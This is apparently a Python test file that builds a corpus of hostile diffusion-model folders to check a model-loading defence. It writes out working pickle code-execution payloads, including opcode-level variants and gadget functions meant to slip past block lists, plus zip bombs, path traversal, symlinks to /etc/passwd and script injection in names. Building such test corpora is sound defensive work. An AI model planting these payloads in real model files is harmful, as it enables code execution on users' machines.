"""The hostile models of `benchmarks/hostile.py`, one function for each kind.

Each turns a folder with a harmless tiny model into an attack. Every payload would write the canary, a file, if anything
ran it. No attack is stored: what it needs is written here.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

WEIGHTS = "unet/diffusion_pytorch_model.safetensors"
PICKLE = "unet/diffusion_pytorch_model.bin"
CONFIG = "unet/config.json"
CANARY = "DIFFDEFEND_CANARY"
REFUSED, HARMLESS = "refused", "harmless"

Attack = Callable[[Path], None]
KINDS: dict[str, tuple[str, Attack]] = {}


def kind(name: str, expected: str = REFUSED) -> Callable[[Attack], Attack]:
    """Enter an attack into the corpus under a name, with what is expected of the load stage."""

    def enter(attack: Attack) -> Attack:
        KINDS[name] = (expected, attack)
        return attack

    return enter


def command() -> str:
    """Return a shell command that writes the canary."""
    return f"touch '{os.environ[CANARY]}'"


class Payload:
    """An object whose pickle runs a shell command when it is read."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (command(),)


def global_payload() -> bytes:
    """Return the same by opcodes of protocol 0: GLOBAL and REDUCE."""
    return b"cposix\nsystem\n(S" + repr(command()).encode() + b"\ntR."


def instance_payload() -> bytes:
    """Return the same by the opcode INST."""
    return b"(S" + repr(command()).encode() + b"\niposix\nsystem\n."


def object_payload() -> bytes:
    """Return the same by the opcode OBJ."""
    return b"(cposix\nsystem\nS" + repr(command()).encode() + b"\no."


def stack_payload() -> bytes:
    """Return the same by STACK_GLOBAL, whose names come from the stack."""
    parts = [b"\x80\x04"]
    for text in ("posix", "system"):
        parts.append(b"\x8c" + bytes([len(text)]) + text.encode())
    line = command().encode()
    return b"".join(parts) + b"\x93X" + struct.pack("<I", len(line)) + line + b"\x85R."


def lesser_known_payload(module: str, name: str) -> bytes:
    """Return a call of a function that lists of dangerous names forget."""
    line = command().encode()
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(line)) + line + b"\x85R."


def archive(path: Path, content: bytes, extra: dict[str, bytes] | None = None, **options: Any) -> None:
    """Write a torch archive around a pickle."""
    members = {"data.pkl": content, "version": b"3\n", "byteorder": b"little", "data/0": bytes(8), **(extra or {})}
    with zipfile.ZipFile(path, "w", **options) as target:
        for name, body in members.items():
            target.writestr(f"model/{name}", body)


def in_place_of_weights(folder: Path) -> Path:
    """Remove the safetensors; return where a pickle would take their place."""
    (folder / WEIGHTS).unlink()
    return folder / PICKLE


def edit(folder: Path, name: str, **changes: Any) -> None:
    """Change fields of a configuration."""
    value = json.loads((folder / name).read_text(encoding="utf-8"))
    (folder / name).write_text(json.dumps({**value, **changes}), encoding="utf-8")


def header(folder: Path, change: Callable[[dict[str, Any]], object], pad: bytes = b"") -> None:
    """Change the header of the weights."""
    content = (folder / WEIGHTS).read_bytes()
    length = int.from_bytes(content[:8], "little")
    value = json.loads(content[8 : 8 + length])
    change(value)
    text = json.dumps(value).encode()
    (folder / WEIGHTS).write_bytes(struct.pack("<Q", len(text)) + text + content[8 + length :] + pad)


def first(value: dict[str, Any]) -> dict[str, Any]:
    """Return the entry of the first tensor of a header."""
    return next(entry for name, entry in value.items() if name != "__metadata__")


for _name, _payload in {
    "pickle by REDUCE": lambda: pickle.dumps(Payload()),
    "pickle by GLOBAL, protocol 0": global_payload,
    "pickle by INST": instance_payload,
    "pickle by OBJ": object_payload,
    "pickle by STACK_GLOBAL": stack_payload,
    "pickle: torch.utils.collect_env.run": lambda: lesser_known_payload("torch.utils.collect_env", "run"),
    "pickle: mlflow.projects.backend.local._run_entry_point": lambda: lesser_known_payload(
        "mlflow.projects.backend.local", "_run_entry_point"
    ),
    "pickle: builtins.eval": lambda: lesser_known_payload("builtins", "eval"),
}.items():
    kind(f"{_name}, in a torch archive")(lambda folder, make=_payload: archive(in_place_of_weights(folder), make()))
    kind(f"{_name}, bare .bin")(lambda folder, make=_payload: _bare(folder, make()))  # type: ignore[misc]


def _bare(folder: Path, content: bytes) -> None:
    in_place_of_weights(folder).write_bytes(content)


@kind("pickle named .safetensors")
def _(folder: Path) -> None:
    (folder / WEIGHTS).write_bytes(pickle.dumps(Payload()))


@kind("torch archive named .safetensors")
def _(folder: Path) -> None:
    archive(folder / WEIGHTS, pickle.dumps(Payload()))


@kind("pickle beside the safetensors")
def _(folder: Path) -> None:
    archive(folder / PICKLE, pickle.dumps(Payload()))


@kind("pickle as .ckpt, .pt, .pkl beside the model")
def _(folder: Path) -> None:
    for name in ("model.ckpt", "model.pt", "model.pkl"):
        (folder / name).write_bytes(pickle.dumps(Payload()))


@kind("pickle that breaks after its payload")
def _(folder: Path) -> None:
    archive(in_place_of_weights(folder), global_payload()[:-1] + b"\xff\xff")


@kind("second pickle behind a harmless one")
def _(folder: Path) -> None:
    archive(in_place_of_weights(folder), pickle.dumps({}) + pickle.dumps(Payload()))


@kind("nested pickle in a string of a pickle")
def _(folder: Path) -> None:
    archive(in_place_of_weights(folder), b"c_pickle\nloads\n" + b"S" + repr("x").encode() + b"\n\x85R.")


@kind("two members of one name in the archive")
def _(folder: Path) -> None:
    path = in_place_of_weights(folder)
    archive(path, pickle.dumps({}))
    with zipfile.ZipFile(path, "a") as target:
        target.writestr("model/data.pkl", pickle.dumps(Payload()))


@kind("archive member that climbs out")
def _(folder: Path) -> None:
    archive(in_place_of_weights(folder), pickle.dumps({}), {"../../escaped": b"x"})


@kind("zip bomb: a compressed member of 1 GB")
def _(folder: Path) -> None:
    with zipfile.ZipFile(in_place_of_weights(folder), "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        target.writestr("model/data.pkl", pickle.dumps({}))
        with target.open("model/data/0", "w") as file:
            for _ in range(64):
                file.write(bytes(1 << 24))


@kind("executable before the archive")
def _(folder: Path) -> None:
    path = in_place_of_weights(folder)
    archive(path, pickle.dumps({}))
    path.write_bytes(b"MZ" + bytes(62) + path.read_bytes())


@kind("storage of one number behind a tensor of a terabyte")
def _(folder: Path) -> None:
    import torch

    torch.save({"conv_in.weight": torch.zeros(1).expand(1 << 38)}, in_place_of_weights(folder))


@kind("header length of 2^63")
def _(folder: Path) -> None:
    content = (folder / WEIGHTS).read_bytes()
    (folder / WEIGHTS).write_bytes(struct.pack("<Q", 1 << 63) + content[8:])


@kind("header bomb: 100 MB of header")
def _(folder: Path) -> None:
    with (folder / WEIGHTS).open("wb") as file:
        file.write(struct.pack("<Q", 100 << 20) + b"{")
        file.truncate((100 << 20) + 8)


@kind("header nested 100,000 deep")
def _(folder: Path) -> None:
    text = b'{"a":' + b"[" * 100_000
    (folder / WEIGHTS).write_bytes(struct.pack("<Q", len(text)) + text)


@kind("overlapping tensors")
def _(folder: Path) -> None:
    header(folder, lambda value: value.update({"again": dict(first(value))}))


@kind("hole between tensors, with a file in it")
def _(folder: Path) -> None:
    header(folder, lambda value: None, pad=b"#!/bin/sh\n" * 10)


@kind("offsets beyond the file")
def _(folder: Path) -> None:
    header(folder, lambda value: first(value).update({"data_offsets": [0, 1 << 50]}))


@kind("shape of 10^18 numbers in the header")
def _(folder: Path) -> None:
    header(folder, lambda value: first(value).update({"shape": [10**9, 10**9]}))


@kind("network of 10^12 parameters in the configuration")
def _(folder: Path) -> None:
    edit(folder, CONFIG, block_out_channels=[16384, 16384], norm_num_groups=32)


@kind("sample of a million pixels a side")
def _(folder: Path) -> None:
    edit(folder, CONFIG, sample_size=10**6)


@kind("10^9 layers in a block")
def _(folder: Path) -> None:
    edit(folder, CONFIG, layers_per_block=10**9)


@kind("configuration nested 100,000 deep")
def _(folder: Path) -> None:
    (folder / CONFIG).write_text('{"a":' * 100_000 + "1" + "}" * 100_000, encoding="utf-8")


@kind("number of 400 digits in the configuration")
def _(folder: Path) -> None:
    edit(folder, CONFIG, norm_eps=10**400)


@kind("200 configurations of 1 MB")
def _(folder: Path) -> None:
    for number in range(150):
        (folder / f"c{number}.json").write_text('{"a":[' + "[]," * 300_000 + "[]]}", encoding="utf-8")


@kind("key given twice")
def _(folder: Path) -> None:
    text = (folder / "model_index.json").read_text(encoding="utf-8")
    (folder / "model_index.json").write_text(text.rstrip()[:-1] + ', "_class_name": "Evil"}', encoding="utf-8")


@kind("NaN in a configuration")
def _(folder: Path) -> None:
    text = (folder / CONFIG).read_text(encoding="utf-8").rstrip()
    (folder / CONFIG).write_text(text[:-1] + ', "norm_eps": NaN}', encoding="utf-8")


@kind("NaN among the weights")
def _(folder: Path) -> None:
    content = (folder / WEIGHTS).read_bytes()
    (folder / WEIGHTS).write_bytes(content[:-4] + struct.pack("<f", float("nan")))


@kind("class of another library in the index")
def _(folder: Path) -> None:
    edit(folder, "model_index.json", unet=["os", "system"])


@kind("class of a module in the folder")
def _(folder: Path) -> None:
    edit(folder, "model_index.json", unet=["my_unet", "MyUNet"])


@kind("custom pipeline in the index")
def _(folder: Path) -> None:
    edit(folder, "model_index.json", _class_name=["pipeline", "MyPipeline"])


@kind("code files beside the model")
def _(folder: Path) -> None:
    (folder / "unet/my_unet.py").write_text(f"import os; os.system({command()!r})", encoding="utf-8")
    (folder / "pipeline.py").write_text(f"import os; os.system({command()!r})", encoding="utf-8")


@kind("class name with a path in the configuration")
def _(folder: Path) -> None:
    edit(folder, CONFIG, _class_name="../../os.system")


@kind("auto_map, nested")
def _(folder: Path) -> None:
    edit(folder, CONFIG, extra={"deep": {"auto_map": {"AutoModel": "evil--modeling.Model"}}})


@kind("trust_remote_code")
def _(folder: Path) -> None:
    edit(folder, "model_index.json", trust_remote_code=True)


@kind("code as an activation function")
def _(folder: Path) -> None:
    edit(folder, CONFIG, act_fn="__import__('os').system('true')")


@kind("link to /etc/passwd")
def _(folder: Path) -> None:
    (folder / "notes.txt").symlink_to("/etc/passwd")


@kind("linked folder that leads out")
def _(folder: Path) -> None:
    (folder / "vae").symlink_to("/", target_is_directory=True)


@kind("link that names itself")
def _(folder: Path) -> None:
    (folder / "loop.json").symlink_to("loop.json")


@kind("pipe in place of a file")
def _(folder: Path) -> None:
    (folder / CONFIG).unlink()
    os.mkfifo(folder / CONFIG)


@kind("folders nested 60 deep")
def _(folder: Path) -> None:
    (folder / "/".join("n" * 60)).mkdir(parents=True)


@kind("10,000 files")
def _(folder: Path) -> None:
    for number in range(10_000):
        (folder / f"{number}.txt").touch()


@kind("script in a file name")
def _(folder: Path) -> None:
    (folder / "<img src=x onerror=alert(1)>.json").write_text("{}", encoding="utf-8")


@kind("line break and escape codes in a file name")
def _(folder: Path) -> None:
    (folder / "a\n\x1b[2Jclean.json").write_text("{}", encoding="utf-8")


@kind("look-alike letter in a file name")
def _(folder: Path) -> None:
    (folder / "m\N{CYRILLIC SMALL LETTER O}del_index.json").write_text("{}", encoding="utf-8")


@kind("names that differ in case alone")
def _(folder: Path) -> None:
    (folder / "Model_Index.json").write_text("{}", encoding="utf-8")


@kind("second weights as a variant")
def _(folder: Path) -> None:
    shutil.copy(folder / WEIGHTS, folder / "unet/diffusion_pytorch_model.fp16.safetensors")


@kind("executable, library and notebook")
def _(folder: Path) -> None:
    for name in ("run.sh", "lib.so", "demo.ipynb"):
        (folder / name).write_bytes(b"x")


@kind("sparse file of 100 GB")
def _(folder: Path) -> None:
    with (folder / WEIGHTS).open("r+b") as file:
        file.truncate(100 * 10**9)


@kind("script in a tensor name")
def _(folder: Path) -> None:
    header(folder, lambda value: value.update({"<script>alert(1)</script>\x1b[2J": value.pop("conv_in.bias")}))


@kind("script in the model card", HARMLESS)
def _(folder: Path) -> None:
    (folder / "README.md").write_text(
        "<script>alert(1)</script>\n---\n!!python/object/apply:os.system\n", encoding="utf-8"
    )


@kind("script in unused fields of a configuration", HARMLESS)
def _(folder: Path) -> None:
    edit(folder, CONFIG, _name_or_path="<script>alert(1)</script>", note="{{ 7 * 7 }}")


@kind("script in the metadata of the weights", HARMLESS)
def _(folder: Path) -> None:
    header(folder, lambda value: value.update({"__metadata__": {"format": "<script>alert(1)</script>"}}))


@kind("script in the name of the model", HARMLESS)
def _(folder: Path) -> None:
    folder.rename(folder.with_name("<script>alert(1)<&script>"))
